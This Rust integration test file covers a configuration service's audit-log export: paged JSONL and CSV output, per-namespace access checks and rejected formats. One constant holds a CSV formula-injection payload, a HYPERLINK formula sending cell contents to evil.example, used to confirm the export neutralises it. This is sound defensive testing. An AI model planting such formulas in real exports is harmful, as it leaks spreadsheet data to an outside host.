//! The audit log's exports through the router: who may export what, every entry written out a
//! page at a time, and CSV that a spreadsheet opens without running anything.

mod common;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use common::TestApp;
use confo::users::{Grants, Role};

const TRICKY: &str = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")\nsecond, \"line\"";

/// The export's address, as the audit page writes it.
fn export_uri(namespace: &str, format: &str) -> String {
    let filter: String = [
        "who",
        "namespace",
        "configuration",
        "action",
        "since",
        "until",
    ]
    .iter()
    .map(|key| {
        let value = if *key == "namespace" { namespace } else { "" };
        format!("filter%5B{key}%5D={value}&")
    })
    .collect();
    format!("/api/audit/export?{filter}format={format}")
}

async fn export(app: &TestApp, namespace: &str, format: &str) -> (StatusCode, HeaderMap, String) {
    app.send_for_headers(
        Request::get(export_uri(namespace, format))
            .body(Body::empty())
            .unwrap(),
    )
    .await
}

async fn create_namespace(app: &TestApp, name: &str, comment: &str) {
    let change = confo::Change::by(confo::Actor::user("ada")).with_comment(comment);
    app.store
        .create_namespace(&confo::NamespaceName::new(name).unwrap(), &change)
        .await
        .unwrap();
}

#[tokio::test]
async fn exports_write_every_entry_page_by_page_and_csv_runs_nothing() {
    let app = TestApp::new().await;
    create_namespace(&app, "shop", TRICKY).await;
    // More entries than two of the export's pages.
    for i in 0..1_100 {
        create_namespace(&app, &format!("n{i}"), "").await;
    }
    let stored = app
        .store
        .audit(&confo::AuditQuery {
            limit: Some(1_000),
            ..Default::default()
        })
        .await
        .unwrap();
    let newest = stored.entries[0].seq;
    assert!(newest > 1_100, "{newest}");

    let (status, headers, body) = export(&app, "", "jsonl").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(
        headers[header::CONTENT_TYPE].to_str().unwrap(),
        "application/x-ndjson"
    );
    // Written as it is read: no length known up front.
    assert!(headers.get(header::CONTENT_LENGTH).is_none(), "{headers:?}");
    let seqs: Vec<u64> = body
        .lines()
        .map(|line| {
            serde_json::from_str::<serde_json::Value>(line).unwrap()["seq"]
                .as_u64()
                .unwrap()
        })
        .collect();
    assert_eq!(
        seqs,
        (1..=newest).rev().collect::<Vec<_>>(),
        "every entry, newest first"
    );

    let (status, headers, body) = export(&app, "", "csv").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(
        headers[header::CONTENT_TYPE].to_str().unwrap(),
        "text/csv; charset=utf-8"
    );
    assert!(
        headers[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"confo-audit.csv\"")
    );
    assert!(body.starts_with(
        "seq,time,who,action,namespace,configuration,field,user,comment,before,after\n"
    ));
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len() as u64, newest);
    let shop = records
        .iter()
        .find(|r| &r[4] == "shop")
        .expect("the shop entry");
    assert_eq!(&shop[8], format!("'{TRICKY}"), "read back whole, and inert");
    assert_eq!(&shop[2], "ada");
}

#[tokio::test]
async fn exports_check_who_asks_before_anything() {
    let mut app = TestApp::new().await;
    create_namespace(&app, "shop", "").await;
    create_namespace(&app, "other", "secret plans").await;
    app.add_user("shopper", Role::Viewer).await;
    app.store
        .update_user(
            "shopper",
            Role::Viewer,
            Grants::Namespaces(vec!["shop".into()]),
            &confo::Change::by(confo::Actor::system()),
        )
        .await
        .unwrap();

    // Signed out: refused, whatever the format.
    app.cookie = None;
    for format in ["csv", "nonsense"] {
        let (status, _, body) = export(&app, "", format).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{format}: {body}");
    }

    app.sign_in("shopper").await;
    let (status, _, body) = export(&app, "other", "csv").await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let (status, _, body) = export(&app, "", "csv").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("\"shop\""), "{body}");
    assert!(
        !body.contains("other") && !body.contains("secret"),
        "{body}"
    );
    let (status, _, body) = export(&app, "", "xlsx").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}
